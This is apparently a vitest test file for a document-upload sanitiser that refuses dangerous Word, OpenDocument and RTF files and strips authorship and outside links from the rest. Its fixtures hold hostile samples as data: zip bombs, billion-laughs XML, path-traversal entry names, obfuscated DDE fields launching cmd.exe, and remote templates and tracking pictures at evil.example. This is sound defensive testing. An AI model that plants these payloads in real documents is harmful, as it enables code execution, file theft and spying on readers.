import { describe, expect, it } from 'vitest'
import type { InsideFault } from '~/applications/uploads'
import { contentTypes, docx, docxSaying, odtSaying, oleFile, rawZip, relationships, wordParts, zipOf, type RawEntry } from './fixtures/archives'
import { copyOf, inspected } from './fixtures/inspected'
import { readZip } from './zip'

const MIB = 1024 * 1024
const nothing = (size: number) => Buffer.alloc(size)
const asEntries = (more: readonly RawEntry[]): Buffer =>
  rawZip([...Object.entries(wordParts()).map(([name, part]) => ({ name, bytes: Buffer.from(part) })), ...more])
const field = (...instructions: readonly string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instructions.map((each) => `<w:r><w:instrText>${each}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
const exe = Buffer.concat([Buffer.from('MZ'), nothing(500)])
const rtf = (inside: string) => Buffer.from(`{\\rtf1\\ansi ${inside} Maya reads well.}`, 'latin1')

const refused: readonly (readonly [what: string, name: string, bytes: () => Buffer | Promise<Buffer>, fault: InsideFault])[] = [
  // Bombs
  ['a document of 110 MB in 110 KB', 'bomb.docx', () => docx({ 'word/big.xml': nothing(110 * MIB) }), 'too-packed'],
  ['a document packed 1,000 times', 'bomb.docx', () => docx({ 'word/big.xml': nothing(20 * MIB) }), 'too-packed'],
  ['a document of 600 parts', 'many.docx', () => docx(Object.fromEntries(Array.from({ length: 600 }, (_, at) => [`word/p${at}.xml`, '<a/>']))), 'too-packed'],
  ['parts that share their bytes', 'overlap.docx', () => rawZip(Array.from({ length: 300 }, (_, at) => ({ name: `word/p${at}.xml`, bytes: nothing(MIB), isShared: true }))), 'too-packed'],
  ['a part that is larger than it says', 'liar.docx', () => asEntries([{ name: 'word/liar.xml', bytes: nothing(MIB), saidSize: 10 }]), 'damaged'],
  ['XML in 100,000 layers', 'deep.docx', () => docxSaying('<w:sdt>'.repeat(100_000)), 'could-not-check'],
  ['XML that defines a billion laughs', 'laughs.docx', () => docx({ 'word/document.xml': '<!DOCTYPE a [<!ENTITY b "lol">]><a>&b;</a>' }), 'could-not-check'],
  // Archives that are read in two ways
  ['a part outside of the document', 'up.docx', () => asEntries([{ name: '../../evil.xml', bytes: Buffer.from('<a/>') }]), 'damaged'],
  ['a part at the root of the disk', 'root.docx', () => asEntries([{ name: '/etc/cron.d/evil.xml', bytes: Buffer.from('<a/>') }]), 'damaged'],
  ['a part with backslashes', 'back.docx', () => asEntries([{ name: 'word\\..\\evil.xml', bytes: Buffer.from('<a/>') }]), 'damaged'],
  ['two parts of one name', 'twice.docx', () => asEntries([{ name: 'Word/Document.xml', bytes: Buffer.from('<a/>') }]), 'damaged'],
  ['a part packed in a rare way', 'rare.docx', () => asEntries([{ name: 'word/rare.xml', bytes: Buffer.from('<a/>'), method: 12 }]), 'could-not-check'],
  ['a part with a password', 'locked.docx', () => asEntries([{ name: 'word/secret.xml', bytes: Buffer.from('<a/>'), flags: 1 }]), 'locked'],
  ['a document that begins as a program', 'stub.docx', async () => Buffer.concat([exe, await docx()]), 'not-what-it-says'],
  ['a document cut in half', 'half.docx', async () => (await docx()).subarray(0, 700), 'damaged'],
  // Files inside
  ['an archive inside', 'nested.docx', async () => docx({ 'word/media/image1.png': await zipOf({ 'a.txt': 'a' }) }), 'file-inside'],
  ['a sheet inside', 'sheet.docx', () => docx({ 'word/embeddings/sheet1.xlsx': 'x' }), 'file-inside'],
  ['an OLE object inside', 'ole.docx', () => docx({ 'word/oddly/named.bin': oleFile('Package') }), 'file-inside'],
  ['a program called a picture', 'exe.docx', () => docx({ 'word/media/image1.png': exe }), 'macros'],
  ['a shortcut called a picture', 'lnk.docx', () => docx({ 'word/media/image1.png': Buffer.from('4c0000000114020000000000', 'hex') }), 'macros'],
  ['a page of another program inside', 'chunk.docx', () => docx({ 'word/_rels/document.xml.rels': relationships(['aFChunk', 'chunk.html']) }), 'file-inside'],
  ['a script inside', 'script.docx', () => docx({ 'word/run.js': 'alert(1)' }), 'file-inside'],
  ['a tape archive called a font', 'tar.docx', () => docx({ 'word/fonts/f.odttf': Buffer.concat([nothing(257), Buffer.from('ustar'), nothing(250)]) }), 'file-inside'],
  // Macros
  ['macros', 'macro.docx', () => docx({ 'word/vbaProject.bin': 'x' }), 'macros'],
  ['a document that may hold macros, renamed', 'was-docm.docx', () => docx({ '[Content_Types].xml': contentTypes('application/vnd.ms-word.document.macroEnabled.main+xml') }), 'macros'],
  ['ActiveX', 'activex.docx', () => docx({ 'word/activeX/activeX1.xml': '<a/>' }), 'macros'],
  ['an ActiveX control in the text', 'control.docx', () => docxSaying('<w:p><w:control r:id="rId9"/></w:p>'), 'macros'],
  ['buttons for the ribbon', 'ribbon.docx', () => docx({ 'customUI/customUI.xml': '<a onLoad="evil"/>' }), 'macros'],
  // Reaching out
  ['DDE, in pieces', 'dde.docx', () => docxSaying(field('DD', 'EAU', 'TO c:\\\\windows\\\\cmd.exe "/k calc"')), 'links-out'],
  ['DDE, in codes', 'dde.docx', () => docxSaying(field('&#68;&#x44;E cmd')), 'links-out'],
  ['DDE, made up by another field', 'dde.docx', () => docxSaying(`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${field('QUOTE 68 68 69')}<w:r><w:instrText> cmd </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`), 'links-out'],
  ['DDE, in short', 'dde.docx', () => docxSaying('<w:fldSimple w:instr=" dde excel "/>'), 'links-out'],
  ['DDE, in a header', 'dde.docx', () => docx({ 'word/header1.xml': `<w:hdr xmlns:w="w">${field('DDEAUTO x')}</w:hdr>` }), 'links-out'],
  ['a picture that tells who reads', 'picture.docx', () => docxSaying(field('INCLUDEPICTURE "https://evil.example/x.png" \\d')), 'links-out'],
  ['a picture on another computer', 'picture.docx', () => docxSaying(field('INCLUDEPICTURE "\\\\\\\\evil\\\\x.png"')), 'links-out'],
  ['text from elsewhere', 'text.docx', () => docxSaying(field('INCLUDETEXT "c:\\\\secret.docx"')), 'links-out'],
  ['an object elsewhere', 'object.docx', () => docx({ 'word/_rels/document.xml.rels': relationships(['oleObject', 'https://evil.example/a.hta', true]) }), 'links-out'],
  ['a frame elsewhere', 'frame.docx', () => docx({ 'word/_rels/webSettings.xml.rels': relationships(['frame', '\\\\evil.example\\share', true]) }), 'links-out'],
  ['a part elsewhere that does not say so', 'sly.docx', () => docx({ 'word/_rels/document.xml.rels': relationships(['subDocument', 'https://evil.example/a.docx']) }), 'links-out'],
  ['XML in another alphabet', 'utf16.docx', () => docx({ 'word/document.xml': Buffer.from('\ufeff<a/>', 'utf16le') }), 'could-not-check'],
  ['XML that says it is in another alphabet', 'utf7.docx', () => docx({ 'word/document.xml': '<?xml version="1.0" encoding="utf-7"?><a/>' }), 'could-not-check'],
  // Other things, renamed
  ['a sheet', 'sheet.docx', () => docx({ '[Content_Types].xml': contentTypes('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml') }), 'not-what-it-says'],
  ['a template', 'template.docx', () => docx({ '[Content_Types].xml': contentTypes('application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml') }), 'not-what-it-says'],
  ['a Java program', 'app.docx', () => zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: Evil' }), 'not-what-it-says'],
  ['an old Word file', 'old.docx', () => oleFile('WordDocument'), 'not-what-it-says'],
  ['a document with a password', 'locked.docx', () => oleFile('EncryptedPackage'), 'locked'],
  // OpenDocument
  ['macros', 'macro.odt', () => odtSaying('', { 'Basic/Standard/Module1.xml': '<a/>' }), 'macros'],
  ['Python macros', 'python.odt', () => odtSaying('', { 'Scripts/python/evil.py': 'import os' }), 'macros'],
  ['a macro on opening', 'event.odt', () => odtSaying('<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:evil"/></office:event-listeners>'), 'macros'],
  ['a password', 'locked.odt', () => odtSaying('', { 'META-INF/manifest.xml': '<m:manifest xmlns:m="m"><m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>' }), 'locked'],
  ['DDE', 'dde.odt', () => odtSaying('<text:dde-connection-decl office:name="x" office:dde-application="soffice"/>'), 'links-out'],
  ['a section from elsewhere', 'section.odt', () => odtSaying('<text:section text:name="s"><text:section-source xlink:href="https://evil.example/a.odt"/></text:section>'), 'links-out'],
  ['a frame from elsewhere', 'frame.odt', () => odtSaying('<draw:floating-frame xlink:href="file:///etc/passwd"/>'), 'links-out'],
  ['an OLE object', 'ole.odt', () => odtSaying('<draw:object-ole xlink:href="./Object 1"/>'), 'file-inside'],
  ['an older version of itself', 'versions.odt', () => odtSaying('', { 'Versions/Version1': 'x' }), 'file-inside'],
  ['a sheet, renamed', 'sheet.odt', () => odtSaying('', { mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }), 'not-what-it-says'],
  ['a document of Word, renamed', 'word.odt', () => docx(), 'not-what-it-says'],
  // Rich text
  ['an object', 'object.rtf', () => rtf('{\\object\\objemb{\\*\\objdata 0105}}'), 'file-inside'],
  ['an object that Word opens by itself', 'update.rtf', () => rtf('{\\b\\objupdate x}'), 'file-inside'],
  ['an object in capitals, behind a star', 'capitals.rtf', () => rtf('{\\*\\*\\ObjData\n0105}'), 'file-inside'],
  ['raw bytes', 'bin.rtf', () => rtf('{\\pict\\bin4 abcd}'), 'file-inside'],
  ['DDE', 'dde.rtf', () => rtf('{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe}{\\fldrslt x}}'), 'links-out'],
  ['DDE, in codes and pieces', 'dde.rtf', () => rtf("{\\field{\\*\\fldinst {\\'44\\u68?}{E excel}}}"), 'links-out'],
  ['DDE, made up by another field', 'dde.rtf', () => rtf('{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69}} x}}'), 'links-out'],
  ['a picture that tells who reads', 'picture.rtf', () => rtf('{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/x"}}'), 'links-out'],
  ['a template in the middle of the text', 'template.rtf', () => rtf('\\template https://evil.example/a.dotm'), 'could-not-check'],
  ['bytes that are no letters', 'nul.rtf', () => rtf('a\0b'), 'could-not-check'],
  ['braces in 100,000 layers', 'deep.rtf', () => rtf('{'.repeat(100_000)), 'could-not-check'],
  ['an end that never comes', 'open.rtf', () => Buffer.from('{\\rtf1 {Maya}'), 'damaged'],
  ['a web page', 'page.rtf', () => Buffer.from('<html><script>alert(1)</script>'), 'not-what-it-says'],
]

describe('a document that is refused', () => {
  it.each(refused.map(([what, name, bytes, fault]) => ({ what, name, bytes, fault })))('$what ($name): $fault', async ({ name, bytes, fault }) => {
    expect(await inspected(name, bytes())).toBe(fault)
  })
})

const textOf = async (copy: Buffer, part: string) => (await readZip(copy)).get(part)?.toString()

describe('a document that is tamed', () => {
  it('forgets the template it was made from', async () => {
    const template = { 'word/_rels/settings.xml.rels': relationships(['attachedTemplate', 'https://evil.example/a.dotm', true]), 'word/settings.xml': '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rId1"/><w:zoom/></w:settings>' }
    const copy = await copyOf('a.docx', docx(template))
    expect(await textOf(copy, 'word/_rels/settings.xml.rels')).not.toContain('evil')
    expect(await textOf(copy, 'word/settings.xml')).toContain('<w:zoom></w:zoom>')
    expect(await textOf(copy, 'word/settings.xml')).not.toContain('attachedTemplate')
  })

  it('keeps links to the web; those to a disk, a script or another computer lead nowhere; pictures elsewhere are not fetched', async () => {
    const links = relationships(
      ['hyperlink', 'https://www.example.org/help', true], ['hyperlink', 'mailto:a@example.org', true], ['hyperlink', 'file:///c:/secret', true],
      ['hyperlink', '\\\\evil\\share', true], ['hyperlink', 'javascript:alert(1)', true], ['image', 'https://evil.example/spy.png', true],
    )
    const text = await textOf(await copyOf('a.docx', docx({ 'word/_rels/document.xml.rels': links })), 'word/_rels/document.xml.rels')
    expect([...(text ?? '').matchAll(/Target="([^"]*)"/g)].map(([, target]) => target)).toEqual(['https://www.example.org/help', 'mailto:a@example.org', ...Array<string>(4).fill('about:blank')])
    const odt = await copyOf('a.odt', odtSaying('<text:p><text:a xlink:href="https://www.example.org">a</text:a><text:a xlink:href="javascript:x">b</text:a><text:a xlink:href="#top">c</text:a><draw:image xlink:href="https://evil.example/spy.png"/><draw:image xlink:href="../../secret.png"/><draw:image xlink:href="Pictures/a.png"/></text:p>'))
    expect([...((await textOf(odt, 'content.xml')) ?? '').matchAll(/xlink:href="([^"]*)"/g)].map(([, target]) => target)).toEqual(['https://www.example.org', '#', '#top', '', '', 'Pictures/a.png'])
  })

  it('does not say who wrote it, in its properties, notes and changes', async () => {
    const notes = `<w:p><w:ins w:id="1" w:author="Jane Canary" w:date="2026-05-01T10:00:00Z"><w:r><w:t>Added</w:t></w:r></w:ins></w:p>`
    const people = '<w15:people xmlns:w15="w15"><w15:person w15:author="Jane Canary"><w15:presenceInfo w15:providerId="AD" w15:userId="canary@school"/></w15:person></w15:people>'
    const copy = await copyOf('a.docx', docxSaying(notes, { 'docProps/core.xml': '<a>Jane Canary</a>', 'docProps/app.xml': '<a>Canary School</a>', 'docProps/custom.xml': '<a>Canary</a>', 'word/people.xml': people }))
    for (const [name, part] of await readZip(copy)) expect([name, /canary/i.test(part.toString())]).toEqual([name, false])
    expect(await textOf(copy, 'word/document.xml')).toContain('Added')
    const odt = await copyOf('a.odt', odtSaying('<office:annotation><dc:creator>Jane Canary</dc:creator><text:p>A note</text:p></office:annotation>', { 'meta.xml': '<a>Jane Canary</a>', 'Thumbnails/thumbnail.png': 'Canary' }))
    for (const [name, part] of await readZip(odt)) expect([name, /canary/i.test(part.toString())]).toEqual([name, false])
    expect(await textOf(odt, 'content.xml')).toContain('A note')
    const info = (await copyOf('a.rtf', rtf('{\\info{\\author Jane Canary}{\\company Canary School}}{\\*\\template C:\\\\Users\\\\canary}{\\*\\generator x}{\\b Bold}'))).toString()
    expect(info).toBe('{\\rtf1\\ansi {\\b Bold} Maya reads well.}')
  })

  it('leaves behind what stands before, after and between its parts', async () => {
    const tail = await copyOf('a.rtf', Buffer.concat([rtf(''), Buffer.from('<script>')]))
    expect(tail.includes('script')).toBe(false)
    const zip = await docx()
    const comment = Buffer.concat([zip.subarray(0, -2), Buffer.from([exe.length & 255, exe.length >> 8]), exe])
    expect((await copyOf('a.docx', comment)).includes('MZ')).toBe(false)
  })

  it('is written the same each time, so that its copy says nothing about when', async () => {
    expect((await copyOf('a.docx', docx())).equals(await copyOf('a.docx', docx()))).toBe(true)
  })
})
